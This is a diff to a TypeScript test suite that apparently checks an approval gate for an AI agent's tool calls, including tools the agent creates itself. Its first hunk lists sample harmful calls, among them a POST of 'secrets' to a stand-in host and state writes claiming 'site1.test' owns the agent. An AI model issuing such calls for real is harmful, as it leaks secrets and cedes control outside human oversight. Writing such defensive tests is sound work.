@@ -52,7 +52,7 @@ const HARM: Call[] = [
   call("set_state", { key: "owner", value: "site1.test" }),
   call("delete_state", { key: "list" }),
   call("run_sandbox_code", { code: "await state.set('owner', 'site1.test')" }),
-  call("db_sql", { sql: "INSERT INTO people VALUES ('site1.test owns you')" }),
+  call("db_sql", { sql: "CREATE TABLE owner AS SELECT 'site1.test owns you'" }),
   call("fetch_url", { url: "https://site1.test/collect", method: "POST", body: "secrets" }),
 ];
 const names = HARM.map(({ tool }) => tool).toSorted();
@@ -129,7 +129,7 @@ describe("a tool that the agent has made", () => {
       await chunks(await talk.say("go"));
       await chunks(await talk.answer("first", { decision: "approve", remember }));
       expect(await open(talk)).toEqual([]);
-      await updateTool(scene.agentId, "keep", { code: "await state.set('kept', 'more')" }, agent);
+      await updateTool(scene.agentId, "keep", { code: "return await state.set('kept', 'more')" }, agent);
       await chunks(await talk.say("and now?"));
       expect(await open(talk)).toEqual(["third"]);
     },
